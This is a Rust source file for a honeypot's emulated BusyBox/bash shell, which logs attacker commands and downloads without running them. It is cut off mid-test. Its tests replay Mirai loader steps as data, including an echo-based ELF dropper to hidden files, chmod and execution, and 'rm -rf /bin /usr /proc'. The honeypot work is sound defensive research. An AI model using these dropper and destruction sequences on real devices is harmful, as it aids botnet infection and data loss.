//! The fake shell that telnet (and later SSH) personas hand a logged-in peer to.
//!
//! Pure and synchronous: a command line goes in, output bytes and what happened come out. No
//! I/O, nothing the peer sends is executed, and URLs are recorded, never fetched. Every
//! buffer is capped (line length, output size, in-memory filesystem size per session).
//!
//! - `parse`: quoting, escapes, `;` `&&` `||` `|` `&`, redirections; `$VAR` and globs are
//!   marked there and expanded (bounded) when the command runs.
//! - `fs`: the per-session in-memory filesystem (capped).
//! - `commands`: the commands (BusyBox applets, coreutils, shell builtins).
//! - `profile`: what the host looks like ([`Profile`], built-ins).
//!
//! Downloads (`wget`, `curl`, `tftp`, `ftpget`) are recorded as [`ShellEvent::Download`],
//! report success, and leave an empty file where the download would have been saved, so a
//! following `chmod +x f; ./f` behaves as on a host where the file was empty.

mod commands;
pub mod fs;
mod parse;
mod profile;

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

use sha2::{Digest as _, Sha256};

pub use fs::{MAX_FS_BYTES, MAX_FS_ENTRIES};
pub use profile::{Flavor, Profile, Uname};

use fs::Fs;
use parse::{Op, Redirect};

/// Longest command line read; the rest is dropped (a 1 MB line is an attack, not a command).
pub const MAX_LINE: usize = 64 * 1024;
/// Most output bytes one line produces (after `\n` becomes `\r\n`); also the most bytes one
/// command passes down a pipe.
pub const MAX_OUTPUT: usize = 64 * 1024;
/// Most commands run for one line, counting those run by scripts and `sh -c`.
pub const MAX_STEPS: usize = 1024;
/// Most bytes of shell variables (`NAME=value`, `export`) one session keeps.
pub const MAX_VARS_BYTES: usize = 64 * 1024;
/// Most bytes one command's words expand to (variables, globs).
pub const MAX_EXPANDED: usize = 256 * 1024;
/// Most paths one glob expands to.
const MAX_GLOB: usize = 1024;
/// Deepest nesting of `sh -c`, `sh FILE`, executed scripts and `nohup`/`exec`/`busybox`
/// wrappers.
pub const MAX_DEPTH: usize = 4;
/// Most script bytes (scripts run, `sh -c` strings) loaded for one line: a 1 MiB script
/// that runs itself must not be copied a thousand times.
pub const MAX_SCRIPT_BYTES: usize = 4 << 20;

/// Something the shell saw worth recording, beyond the output.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ShellEvent {
    /// One command (after splitting a line on `;`, `&&`, `||`, `|`), as typed.
    Command { input: Vec<u8>, recognised: bool },
    /// A command asked to download something (wget, curl, tftp, ftpget): recorded only.
    Download {
        url: Vec<u8>,
        command: &'static str,
        outfile: Option<Vec<u8>>,
    },
    /// Bytes written into the session's in-memory filesystem: the whole file as it is after
    /// the line that wrote it (one event per file and line).
    FileWrite {
        path: Vec<u8>,
        sha256: String,
        len: u64,
    },
}

/// As recorded: each shell event is the session event of the same meaning.
impl From<ShellEvent> for honeyport_event::EventKind {
    fn from(e: ShellEvent) -> Self {
        use honeyport_event::{EventKind, Payload};
        match e {
            ShellEvent::Command { input, recognised } => EventKind::CommandInput {
                input: Payload(input),
                recognised,
            },
            ShellEvent::Download {
                url,
                command,
                outfile,
            } => EventKind::FileDownload {
                url: Payload(url),
                command: command.to_string(),
                outfile: outfile.map(Payload),
            },
            ShellEvent::FileWrite { path, sha256, len } => EventKind::FileWrite {
                path: Payload(path),
                sha256,
                len,
            },
        }
    }
}

/// What one command line did.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Outcome {
    /// Bytes to send to the peer (without the next prompt), line endings as a terminal sends
    /// them (`\r\n`). At most [`MAX_OUTPUT`] bytes.
    pub output: Vec<u8>,
    pub events: Vec<ShellEvent>,
    /// The peer asked to leave (`exit`, `logout`).
    pub exit: bool,
}

/// Output of one command: stdout and stderr, each capped at [`MAX_OUTPUT`].
#[derive(Default)]
struct Io {
    out: Vec<u8>,
    err: Vec<u8>,
}

fn push_capped(buf: &mut Vec<u8>, bytes: &[u8]) {
    let room = MAX_OUTPUT.saturating_sub(buf.len());
    buf.extend_from_slice(&bytes[..bytes.len().min(room)]);
}

impl Io {
    fn out(&mut self, b: impl AsRef<[u8]>) {
        push_capped(&mut self.out, b.as_ref());
    }
    fn err(&mut self, b: impl AsRef<[u8]>) {
        push_capped(&mut self.err, b.as_ref());
    }
}

/// Where a file descriptor points while a command's output is delivered.
#[derive(Clone, PartialEq, Eq)]
enum Sink {
    Stdout,
    Stderr,
    Null,
    File(Vec<u8>),
}

/// One peer's shell session.
pub struct Shell {
    profile: Arc<Profile>,
    fs: Fs,
    cwd: Vec<u8>,
    user: Vec<u8>,
    /// `$?`.
    status: i32,
    exit: bool,
    /// Commands run for the current line.
    steps: usize,
    depth: usize,
    /// Script bytes loaded for the current line.
    script_bytes: usize,
    /// Variables the peer set.
    vars: BTreeMap<Vec<u8>, Vec<u8>>,
    vars_bytes: usize,
    /// Files written during the current line.
    written: BTreeSet<Vec<u8>>,
    /// Events of the current line.
    events: Vec<ShellEvent>,
    /// Output goes to a terminal (LF sent as CR LF); false for SSH exec without a pty.
    tty: bool,
}

impl Shell {
    /// A new session for `user` (as logged in; the shell itself always runs as the profile's
    /// user, root).
    pub fn new(profile: Arc<Profile>, user: &[u8]) -> Shell {
        let fs = Fs::from_profile(&profile);
        let cwd = fs::resolve(b"/", profile.home.as_bytes());
        Shell {
            profile,
            fs,
            cwd,
            user: user.to_vec(),
            status: 0,
            exit: false,
            steps: 0,
            depth: 0,
            script_bytes: 0,
            vars: BTreeMap::new(),
            vars_bytes: 0,
            written: BTreeSet::new(),
            events: Vec::new(),
            tty: true,
        }
    }

    /// Whether output goes to a terminal (default): LF is then sent as CR LF.
    pub fn set_tty(&mut self, tty: bool) {
        self.tty = tty;
    }

    /// `$?`: the exit status of the last command.
    pub fn status(&self) -> i32 {
        self.status
    }

    /// The user name given at login.
    pub fn user(&self) -> &[u8] {
        &self.user
    }

    /// The working directory.
    pub fn cwd(&self) -> &[u8] {
        &self.cwd
    }

    /// Bytes the peer has stored in this session's filesystem (at most [`MAX_FS_BYTES`]).
    pub fn fs_bytes(&self) -> usize {
        self.fs.used_bytes()
    }

    /// Entries in this session's filesystem beyond the profile's count (at most
    /// [`MAX_FS_ENTRIES`]; the peer may remove profile files, so this can be 0 with new ones).
    pub fn fs_entries_added(&self) -> usize {
        let base = self.fs.max_entries() - MAX_FS_ENTRIES;
        self.fs.entries().saturating_sub(base)
    }

    /// A file's contents in this session's filesystem.
    pub fn file(&self, path: &[u8]) -> Option<&[u8]> {
        self.fs.read(&fs::resolve(&self.cwd, path)).ok()
    }

    /// The prompt to send before the next line.
    pub fn prompt(&self) -> Vec<u8> {
        let home = fs::resolve(b"/", self.profile.home.as_bytes());
        let cwd: Vec<u8> = if self.cwd == home && home != b"/" {
            b"~".to_vec()
        } else if let Some(rest) = self
            .cwd
            .strip_prefix(home.as_slice())
            .filter(|r| home != b"/" && r.starts_with(b"/"))
        {
            [b"~".as_slice(), rest].concat()
        } else {
            self.cwd.clone()
        };
        let mut out = Vec::new();
        let mut rest = self.profile.prompt.as_bytes();
        while !rest.is_empty() {
            if let Some(r) = rest.strip_prefix(b"{host}") {
                out.extend_from_slice(self.profile.hostname.as_bytes());
                rest = r;
            } else if let Some(r) = rest.strip_prefix(b"{cwd}") {
                out.extend_from_slice(&cwd);
                rest = r;
            } else {
                out.push(rest[0]);
                rest = &rest[1..];
            }
        }
        out
    }

    /// Runs one command line (without its line ending).
    pub fn run_line(&mut self, line: &[u8]) -> Outcome {
        let line = &line[..line.len().min(MAX_LINE)];
        self.steps = 0;
        self.depth = 0;
        self.script_bytes = 0;
        self.written.clear();
        self.events.clear();
        let mut term = Vec::new();
        self.run_list(line, true, &mut term);
        let mut events = std::mem::take(&mut self.events);
        for path in std::mem::take(&mut self.written) {
            if let Ok(data) = self.fs.read(&path) {
                events.push(ShellEvent::FileWrite {
                    sha256: hex::encode(Sha256::digest(data)),
                    len: data.len() as u64,
                    path,
                });
            }
        }
        Outcome {
            output: if self.tty { onlcr(&term) } else { term },
            events,
            exit: self.exit,
        }
    }

    /// Runs a list of pipelines. `record`: emit a `Command` event per command (top level).
    /// Output (stdout and stderr of the last command of each pipeline) goes to `out`.
    fn run_list(&mut self, line: &[u8], record: bool, out: &mut Vec<u8>) {
        let cmds = parse::parse(line);
        let mut prev = Op::Seq;
        let mut i = 0;
        while i < cmds.len() {
            let mut j = i;
            while j + 1 < cmds.len() && cmds[j].1 == Op::Pipe {
                j += 1;
            }
            let run = !self.exit
                && match prev {
                    Op::Seq | Op::Pipe => true,
                    Op::And => self.status == 0,
                    Op::Or => self.status != 0,
                };
            let mut pipe: Vec<u8> = Vec::new();
            for (k, (cmd, _)) in cmds[i..=j].iter().enumerate() {
                let at = self.events.len();
                if record {
                    self.events.push(ShellEvent::Command {
                        input: cmd.text.clone(),
                        recognised: false,
                    });
                }
                let recognised = if run && !self.exit {
                    let (stdout, stderr, recognised) = self.exec(cmd, &pipe);
                    if i + k == j {
                        // Both reach the terminal: a command's output, then its errors.
                        push_capped(out, &stdout);
                        push_capped(out, &stderr);
                        pipe.clear();
                    } else {
                        push_capped(out, &stderr);
                        pipe = stdout;
                    }
                    recognised
                } else {
                    cmd.words
                        .first()
                        .is_none_or(|w| commands::is_known(self, &w.text))
                };
                if let Some(ShellEvent::Command { recognised: r, .. }) = self.events.get_mut(at) {
                    if record {
                        *r = recognised;
                    }
                }
            }
            prev = cmds[j].1;
            i = j + 1;
        }
    }

    /// Runs one simple command; returns its stdout and stderr (unless redirected) and
    /// whether the command was known.
    fn exec(&mut self, cmd: &parse::Command, stdin: &[u8]) -> (Vec<u8>, Vec<u8>, bool) {
        if self.steps >= MAX_STEPS {
            return (Vec::new(), Vec::new(), true);
        }
        self.steps += 1;
        let mut io = Io::default();
        let mut input: Option<Vec<u8>> = None;
        let mut sinks = [Sink::Stdout, Sink::Stdout, Sink::Stderr];
        for r in &cmd.redirects {
            match r {
                Redirect::In { path } => {
                    let p = fs::resolve(&self.cwd, path);
                    match self.fs.read(&p) {
                        Ok(d) => input = Some(d.to_vec()),
                        Err(e) => {
                            self.shell_error(&mut io, path, e.text());
                            self.status = 1;
                            return (Vec::new(), io.err, true);
                        }
                    }
                }
                Redirect::Out { fd, path, .. } => {
                    let p = fs::resolve(&self.cwd, path);
                    let sink = if p == b"/dev/null" {
                        Sink::Null
                    } else {
                        Sink::File(p)
                    };
                    if let Some(s) = sinks.get_mut(usize::from(*fd)) {
                        *s = sink;
                    }
                }
                Redirect::Dup { fd, to } => {
                    if let Some(t) = sinks.get(usize::from(*to)).cloned() {
                        if let Some(s) = sinks.get_mut(usize::from(*fd)) {
                            *s = t;
                        }
                    }
                }
            }
        }
        // Open the redirection targets first, in order, as a shell does: `>` truncates,
        // `>>` creates; a target that cannot be opened means the command does not run.
        let mut err_text = Vec::new();
        for r in &cmd.redirects {
            if let Redirect::Out { path, append, .. } = r {
                let p = fs::resolve(&self.cwd, path);
                if p != b"/dev/null" && !self.write_file(&p, b"", *append, &mut err_text) {
                    self.status = 1;
                    return (Vec::new(), err_text, true);
                }
            }
        }
        let stdin = input.as_deref().unwrap_or(stdin);
        let mut words = self.expand_words(&cmd.words);
        // Leading `NAME=value` words: alone they set shell variables; before a command they
        // would only be its environment (ignored).
        let assignments = words.iter().take_while(|w| assignment(w).is_some()).count();
        let (status, recognised) = if assignments == words.len() {
            for w in &words {
                self.set_var(w);
            }
            (0, true)
        } else {
            words.drain(..assignments);
            match words.split_first() {
                None => (0, true),
                Some((name, args)) => self.dispatch(name, args, stdin, &mut io),
            }
        };
        self.status = status;

        let mut stdout = Vec::new();
        for (fd, bytes) in [(1usize, &io.out), (2, &io.err)] {
            match &sinks[fd] {
                Sink::Stdout => push_capped(&mut stdout, bytes),
                Sink::Stderr => push_capped(&mut err_text, bytes),
                Sink::Null => {}
                Sink::File(p) => {
                    if !bytes.is_empty() {
                        self.write_file(p, bytes, true, &mut err_text);
                    }
                }
            }
        }
        (stdout, err_text, recognised)
    }

    /// A variable's value: one the peer set, else the environment the profile implies.
    fn var(&self, name: &[u8]) -> Vec<u8> {
        if let Some(v) = self.vars.get(name) {
            return v.clone();
        }
        let gnu = self.profile.flavor == Flavor::Gnu;
        let s: &[u8] = match name {
            b"?" => return self.status.to_string().into_bytes(),
            b"PWD" => return self.cwd.clone(),
            b"HOME" => return self.profile.home.clone().into_bytes(),
            b"HOSTNAME" => return self.profile.hostname.clone().into_bytes(),
            b"$" if gnu => b"1423",
            b"$" => b"612",
            b"0" if gnu => b"-bash",
            b"0" => b"sh",
            b"#" => b"0",
            b"USER" | b"LOGNAME" => b"root",
            b"SHELL" if gnu => b"/bin/bash",
            b"SHELL" => b"/bin/sh",
            b"PATH" if gnu => b"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
            b"PATH" => b"/sbin:/usr/sbin:/bin:/usr/bin",
            b"TERM" => b"vt100",
            _ => b"",
        };
        s.to_vec()
    }

    /// Sets `NAME=value` (ignored past [`MAX_VARS_BYTES`]).
    fn set_var(&mut self, word: &[u8]) {
        let Some((name, value)) = assignment(word) else {
            return;
        };
        let old = self.vars.get(name).map_or(0, |v| name.len() + v.len());
        let new = name.len() + value.len();
        if self.vars_bytes - old + new > MAX_VARS_BYTES {
            return;
        }
        self.vars_bytes = self.vars_bytes - old + new;
        self.vars.insert(name.to_vec(), value.to_vec());
    }

    fn unset_var(&mut self, name: &[u8]) {
        if let Some(v) = self.vars.remove(name) {
            self.vars_bytes -= name.len() + v.len();
        }
    }

    /// Expands variables and globs; at most [`MAX_EXPANDED`] bytes in all.
    fn expand_words(&self, words: &[parse::Word]) -> Vec<Vec<u8>> {
        let mut budget = MAX_EXPANDED;
        let mut out = Vec::new();
        for w in words {
            let mut b = Vec::with_capacity(w.text.len());
            let mut at = 0;
            for (off, name) in &w.vars {
                b.extend_from_slice(&w.text[at..*off]);
                let v = self.var(name);
                b.extend_from_slice(&v[..v.len().min(budget.saturating_sub(b.len()))]);
                at = *off;
                if b.len() >= budget {
                    break;
                }
            }
            if b.len() < budget {
                b.extend_from_slice(&w.text[at..]);
            }
            b.truncate(budget);
            let expanded = if w.glob { self.glob(&b) } else { Vec::new() };
            if expanded.is_empty() {
                budget -= b.len();
                out.push(b);
            } else {
                for e in expanded {
                    if e.len() > budget {
                        break;
                    }
                    budget -= e.len();
                    out.push(e);
                }
            }
            if budget == 0 {
                break;
            }
        }
        out
    }

    /// Paths matching a glob (`*`, `?`) in its last component, sorted; empty for none.
    fn glob(&self, pattern: &[u8]) -> Vec<Vec<u8>> {
        let (dir_typed, pat) = match pattern.iter().rposition(|&b| b == b'/') {
            Some(p) => pattern.split_at(p + 1),
            None => (&b""[..], pattern),
        };
        if pat.is_empty() || pat.len() > 255 || dir_typed.iter().any(|&b| b == b'*' || b == b'?') {
            return Vec::new();
        }
        let dir = fs::resolve(
            &self.cwd,
            if dir_typed.is_empty() {
                b"."
            } else {
                dir_typed
            },
        );
        self.fs
            .list(&dir)
            .into_iter()
            .filter(|(name, _)| name.len() <= 255)
            .filter(|(name, _)| !name.starts_with(b".") || pat.starts_with(b"."))
            .filter(|(name, _)| glob_match(pat, name))
            .take(MAX_GLOB)
            .map(|(name, _)| [dir_typed, name].concat())
            .collect()
    }

    /// Writes into the session filesystem for a redirection, reporting errors as the shell.
    fn write_file(&mut self, path: &[u8], bytes: &[u8], append: bool, err: &mut Vec<u8>) -> bool {
        match self.fs.write(path, bytes, append) {
            Ok(()) => {
                if self.fs.is_session_file(path) {
                    self.written.insert(path.to_vec());
                }
                true
            }
            Err(e) => {
                if self.fs.is_session_file(path) {
                    self.written.insert(path.to_vec());
                }
                let msg = match (self.profile.flavor, e) {
                    (Flavor::Busybox, fs::FsError::NoSpace) => {
                        b"sh: write error: No space left on device\n".to_vec()
                    }
                    (Flavor::Busybox, fs::FsError::NotFound) => {
                        [b"sh: can't create ", path, b": nonexistent directory\n"].concat()
                    }
                    (Flavor::Busybox, e) => [
                        b"sh: can't create ",
                        path,
                        b": ",
                        e.text().as_bytes(),
                        b"\n",
                    ]
                    .concat(),
                    (Flavor::Gnu, fs::FsError::NoSpace) => {
                        b"-bash: echo: write error: No space left on device\n".to_vec()
                    }
                    (Flavor::Gnu, e) => {
                        [b"-bash: ", path, b": ", e.text().as_bytes(), b"\n"].concat()
                    }
                };
                push_capped(err, &msg);
                false
            }
        }
    }

    /// `sh: WHAT: MSG` (BusyBox) or `-bash: WHAT: MSG` (GNU) on stderr.
    fn shell_error(&self, io: &mut Io, what: &[u8], msg: &str) {
        let prefix: &[u8] = match self.profile.flavor {
            Flavor::Busybox => b"sh: ",
            Flavor::Gnu => b"-bash: ",
        };
        io.err([prefix, what, b": ", msg.as_bytes(), b"\n"].concat());
    }

    /// Finds and runs a command; returns its exit status and whether it was known.
    fn dispatch(
        &mut self,
        name: &[u8],
        args: &[Vec<u8>],
        stdin: &[u8],
        io: &mut Io,
    ) -> (i32, bool) {
        if name.contains(&b'/') {
            let path = fs::resolve(&self.cwd, name);
            let exec = match self.fs.get(&path) {
                None => {
                    let msg = match self.profile.flavor {
                        Flavor::Busybox => "not found",
                        Flavor::Gnu => "No such file or directory",
                    };
                    self.shell_error(io, name, msg);
                    return (127, false);
                }
                Some(fs::Node::Dir) => {
                    let msg = match self.profile.flavor {
                        Flavor::Busybox => "Permission denied",
                        Flavor::Gnu => "Is a directory",
                    };
                    self.shell_error(io, name, msg);
                    return (126, true);
                }
                Some(fs::Node::File { exec, .. }) => *exec,
            };
            if !exec {
                self.shell_error(io, name, "Permission denied");
                return (126, true);
            }
            let installed = !self.fs.is_session_file(&path)
                && self
                    .profile
                    .commands
                    .iter()
                    .any(|c| c.as_bytes() == path.as_slice());
            if installed {
                let base = fs::basename(&path).to_vec();
                return match commands::run(self, &base, args, stdin, io) {
                    Some(status) => (status, true),
                    None => (0, true), // an installed binary we do not imitate: silent
                };
            }
            return (self.exec_file(&path, io), true);
        }
        match commands::run(self, name, args, stdin, io) {
            Some(status) => (status, true),
            None => {
                match self.profile.flavor {
                    Flavor::Busybox => self.shell_error(io, name, "not found"),
                    Flavor::Gnu => self.shell_error(io, name, "command not found"),
                }
                (127, false)
            }
        }
    }

    /// Runs a file from the session filesystem: an ELF binary prints nothing, anything else
    /// runs as a shell script.
    fn exec_file(&mut self, path: &[u8], io: &mut Io) -> i32 {
        let Ok(data) = self.fs.read(path) else {
            return 127;
        };
        if data.starts_with(b"\x7fELF") {
            return 0;
        }
        let len = data.len();
        if !self.charge_script(len) {
            return 0;
        }
        let data = self.fs.read(path).map(<[u8]>::to_vec).unwrap_or_default();
        self.run_script(&data, io)
    }

    /// Counts `len` script bytes against [`MAX_SCRIPT_BYTES`] (and the nesting depth);
    /// false when the script must not run.
    fn charge_script(&mut self, len: usize) -> bool {
        if self.depth >= MAX_DEPTH || self.steps >= MAX_STEPS {
            return false;
        }
        self.script_bytes = self.script_bytes.saturating_add(len);
        self.script_bytes <= MAX_SCRIPT_BYTES
    }

    /// Runs a command given as arguments of a wrapper (`nohup CMD`, `exec CMD`), one level
    /// deeper.
    fn dispatch_nested(
        &mut self,
        name: &[u8],
        args: &[Vec<u8>],
        stdin: &[u8],
        io: &mut Io,
    ) -> (i32, bool) {
        if self.depth >= MAX_DEPTH {
            return (0, true);
        }
        self.depth += 1;
        let r = self.dispatch(name, args, stdin, io);
        self.depth -= 1;
        r
    }

    /// Runs `script` line by line one level deeper (bounded by [`MAX_DEPTH`] and
    /// [`MAX_STEPS`]); its output goes to `io.out`.
    fn run_script(&mut self, script: &[u8], io: &mut Io) -> i32 {
        if self.depth >= MAX_DEPTH {
            return 0;
        }
        self.depth += 1;
        let mut out = Vec::new();
        for line in script.split(|&b| b == b'\n') {
            if self.steps >= MAX_STEPS || self.exit {
                break;
            }
            // Every script line counts, blank or not.
            self.steps += 1;
            self.run_list(line, false, &mut out);
        }
        // `exit` in a script or `sh -c` ends that shell, not the session.
        self.exit = false;
        self.depth -= 1;
        io.out(&out);
        self.status
    }
}

/// `NAME=value` split, when `word` is an assignment.
fn assignment(word: &[u8]) -> Option<(&[u8], &[u8])> {
    let eq = word.iter().position(|&b| b == b'=')?;
    let name = &word[..eq];
    let ok = name
        .first()
        .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
        && name.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'_');
    ok.then(|| (name, &word[eq + 1..]))
}

/// `*` and `?` matching (both at most 255 bytes long, so the backtracking stays small).
fn glob_match(pat: &[u8], name: &[u8]) -> bool {
    let (mut p, mut n) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while n < name.len() {
        match pat.get(p) {
            Some(b'*') => {
                star = Some((p, n));
                p += 1;
            }
            Some(&c) if c == b'?' || c == name[n] => {
                p += 1;
                n += 1;
            }
            _ => match star {
                Some((sp, sn)) => {
                    p = sp + 1;
                    n = sn + 1;
                    star = Some((sp, sn + 1));
                }
                None => return false,
            },
        }
    }
    pat[p..].iter().all(|&c| c == b'*')
}

/// Terminal output: every `\n` not already after `\r` becomes `\r\n`; capped at
/// [`MAX_OUTPUT`].
fn onlcr(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(bytes.len().min(MAX_OUTPUT) + 64);
    let mut prev = 0u8;
    for &b in bytes {
        if out.len() + 2 > MAX_OUTPUT {
            break;
        }
        if b == b'\n' && prev != b'\r' {
            out.push(b'\r');
        }
        out.push(b);
        prev = b;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shell(profile: &str) -> Shell {
        Shell::new(Arc::new(Profile::builtin(profile).unwrap()), b"root")
    }

    fn commands(o: &Outcome) -> Vec<(Vec<u8>, bool)> {
        o.events
            .iter()
            .filter_map(|e| match e {
                ShellEvent::Command { input, recognised } => Some((input.clone(), *recognised)),
                _ => None,
            })
            .collect()
    }

    fn out(sh: &mut Shell, line: &[u8]) -> Vec<u8> {
        sh.run_line(line).output
    }

    #[test]
    fn mirai_sequence_completes() {
        let mut sh = shell("busybox_router");
        assert_eq!(sh.prompt(), b"router# ");
        for cmd in [&b"enable"[..], b"system", b"shell", b"sh", b"linuxshell"] {
            let o = sh.run_line(cmd);
            assert_eq!(o.output, b"", "{}", String::from_utf8_lossy(cmd));
            assert_eq!(commands(&o), vec![(cmd.to_vec(), true)]);
            assert!(!o.exit);
        }
        let o = sh.run_line(b"/bin/busybox ECCHI");
        assert_eq!(o.output, b"ECCHI: applet not found\r\n");
        assert_eq!(commands(&o), vec![(b"/bin/busybox ECCHI".to_vec(), true)]);
        // The classic chained form, and a real applet through busybox.
        let o = sh.run_line(b"sh; /bin/busybox MIRAI; busybox echo ok");
        assert_eq!(o.output, b"MIRAI: applet not found\r\nok\r\n");
        assert_eq!(commands(&o).len(), 3);
        // Debian has busybox too (initramfs-tools installs it).
        let mut d = shell("debian_server");
        assert_eq!(out(&mut d, b"busybox XYZ"), b"XYZ: applet not found\r\n");
    }

    /// The steps of Mirai's loader (loader/src/server.c): writable-directory probe, ELF
    /// header probe, copying a binary to get an executable file, then the echo dropper.
    #[test]
    fn mirai_loader_steps() {
        let mut sh = shell("busybox_router");
        let o = sh.run_line(b"/bin/busybox ps; /bin/busybox cat /proc/mounts; /bin/busybox ECCHI");
        assert!(o.output.starts_with(b"  PID USER"));
        assert!(o.output.ends_with(b"ECCHI: applet not found\r\n"));
        let o = sh.run_line(b">/dev/.nippon && cd /dev/ && /bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon");
        assert_eq!(o.output, b"kami/dev\r\n");
        assert_eq!(sh.cwd(), b"/dev");
        let o = sh.run_line(b"/bin/busybox dd bs=52 count=1 if=/bin/echo || /bin/busybox cat /bin/echo; /bin/busybox ECCHI");
        assert_eq!(&o.output[..4], b"\x7fELF");
        assert!(o
            .output
            .ends_with(b"1+0 records in\r\n1+0 records out\r\nECCHI: applet not found\r\n"));
        let o = sh.run_line(b"/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
        assert_eq!(o.output, b"ECCHI: applet not found\r\n");
        assert_eq!(sh.file(b"dvrHelper"), Some(&b""[..]));
        let o = sh.run_line(b"/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI");
        assert!(o.output.windows(12).any(|w| w == b"Usage: wget "));
        let o = sh.run_line(b"/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46' >> dvrHelper && /bin/busybox echo -e '\\x45\\x43\\x43\\x48\\x49'");
        assert_eq!(o.output, b"ECCHI\r\n");
        assert_eq!(sh.file(b"/dev/dvrHelper"), Some(&b"\x7fELF"[..]));
        assert_eq!(
            out(&mut sh, b"./dvrHelper; /bin/busybox ECCHI"),
            b"ECCHI: applet not found\r\n"
        );
        // Debian merges /usr: /bin/busybox is there too.
        let mut d = shell("debian_server");
        assert_eq!(
            out(&mut d, b"/bin/busybox ECCHI"),
            b"ECCHI: applet not found\r\n"
        );
        assert_eq!(out(&mut d, b"which sh"), b"/usr/bin/sh\r\n");
    }

    #[test]
    fn echo_dropper_writes_file_with_sha256_and_runs() {
        let mut sh = shell("busybox_router");
        let o = sh.run_line(
            b"cd /tmp; echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > .x; echo -ne '\\x02\\0003' >> .x",
        );
        assert_eq!(o.output, b"");
        let want: &[u8] = b"\x7fELF\x01\x02\x03";
        assert_eq!(sh.file(b"/tmp/.x"), Some(want));
        let writes: Vec<_> = o
            .events
            .iter()
            .filter(|e| matches!(e, ShellEvent::FileWrite { .. }))
            .collect();
        assert_eq!(
            writes,
            vec![&ShellEvent::FileWrite {
                path: b"/tmp/.x".to_vec(),
                sha256: hex::encode(Sha256::digest(want)),
                len: 7,
            }]
        );
        assert_eq!(commands(&o).len(), 3);
        assert_eq!(out(&mut sh, b"./.x"), b"sh: ./.x: Permission denied\r\n");
        let o = sh.run_line(b"chmod +x .x; ./.x; echo $?");
        assert_eq!(o.output, b"0\r\n");
        assert_eq!(
            commands(&o),
            vec![
                (b"chmod +x .x".to_vec(), true),
                (b"./.x".to_vec(), true),
                (b"echo $?".to_vec(), true)
            ]
        );
        assert!(out(&mut sh, b"ls -la")
            .windows(34)
            .any(|w| w == b"-rwxr-xr-x    1 root     root     "));
        assert_eq!(
            out(&mut sh, b"ls -l .x"),
            b"-rwxr-xr-x    1 root     root            7 Jan  1 00:00 .x\r\n"
        );
        // Not an ELF: runs as a script.
        sh.run_line(b"echo 'echo hi; /bin/busybox AB' > s.sh; chmod 777 s.sh");
        assert_eq!(out(&mut sh, b"./s.sh"), b"hi\r\nAB: applet not found\r\n");
        assert_eq!(out(&mut sh, b"sh s.sh"), b"hi\r\nAB: applet not found\r\n");
    }

    #[test]
    fn echo_escapes() {
        let mut sh = shell("busybox_router");
        assert_eq!(
            out(&mut sh, b"echo -e 'a\\tb\\\\c\\x41\\0101'"),
            b"a\tb\\cAA\r\n"
        );
        assert_eq!(out(&mut sh, b"echo -n abc"), b"abc");
        assert_eq!(out(&mut sh, b"echo 'a\\x41'"), b"a\\x41\r\n");
        assert_eq!(out(&mut sh, b"echo -e 'x\\cy'; echo"), b"x\r\n");
        assert_eq!(out(&mut sh, b"echo -en '\\xff\\x0'"), b"\xff\x00");
        assert_eq!(
            out(&mut sh, b"printf '%s-%d\\n' a 7 b 8"),
            b"a-7\r\nb-8\r\n"
        );
        assert_eq!(out(&mut sh, b"printf '\\101\\x42'"), b"AB");
        assert_eq!(out(&mut sh, b"printf 'a\\\\b\\\\'"), b"a\\b\\");
    }

    #[test]
    fn quoting_and_escapes_reach_commands() {
        let mut sh = shell("busybox_router");
        assert_eq!(
            out(&mut sh, b"echo \"a  b\" 'c;d' e\\;f"),
            b"a  b c;d e;f\r\n"
        );
        assert_eq!(
            out(&mut sh, b"echo \"it's\" 'say \"hi\"'"),
            b"it's say \"hi\"\r\n"
        );
        let o = sh.run_line(b"echo 'a && b' && echo c");
        assert_eq!(o.output, b"a && b\r\nc\r\n");
        assert_eq!(commands(&o).len(), 2);
    }

    #[test]
    fn variables_and_globs_expand() {
        let mut sh = shell("busybox_router");
        assert_eq!(
            out(&mut sh, b"nosuch; echo $? \"$HOME\" '$HOME' ${SHELL}x"),
            b"sh: nosuch: not found\r\n127 / $HOME /bin/shx\r\n"
        );
        let o =
            sh.run_line(b"D=/tmp; cd $D; X=1 pwd; export Y=2; echo $D$Y; unset D; echo \"[$D]\"");
        assert_eq!(o.output, b"/tmp\r\n/tmp2\r\n[]\r\n");
        assert_eq!(commands(&o)[0], (b"D=/tmp".to_vec(), true));
        sh.run_line(b"touch a.sh b.sh .c.sh d.txt");
        assert_eq!(
            out(
                &mut sh,
                b"echo *.sh; echo /tmp/?.txt; echo '*'; echo *.none"
            ),
            b"a.sh b.sh\r\n/tmp/d.txt\r\n*\r\n*.none\r\n"
        );
        assert_eq!(out(&mut sh, b"rm -rf *; ls"), b"");
        // Expansion is bounded: a 60 KiB variable used a thousand times.
        sh.run_line(format!("V={}", "v".repeat(60 * 1024)).as_bytes());
        let o = sh.run_line(format!("echo {}", "$V".repeat(1000)).as_bytes());
        assert!(o.output.len() <= MAX_OUTPUT);
        let o = sh.run_line(format!("W={}", "$V".repeat(1000)).as_bytes());
        assert!(o.output.is_empty());
        assert!(sh.vars_bytes <= MAX_VARS_BYTES);
        assert!(
            glob_match(b"a*b*c", b"axxbyyc") && !glob_match(b"a*b", b"ac") && glob_match(b"*", b"")
        );
    }

    /// Found by the `shell_line` fuzz target: after `rm -rf /bin` the session holds fewer
    /// entries than the profile, and counting the added ones underflowed.
    #[test]
    fn removing_profile_files_does_not_underflow_the_entry_count() {
        let mut sh = shell("busybox_router");
        sh.run_line(b"rm -rf /bin /usr /proc");
        assert_eq!(sh.fs_entries_added(), 0);
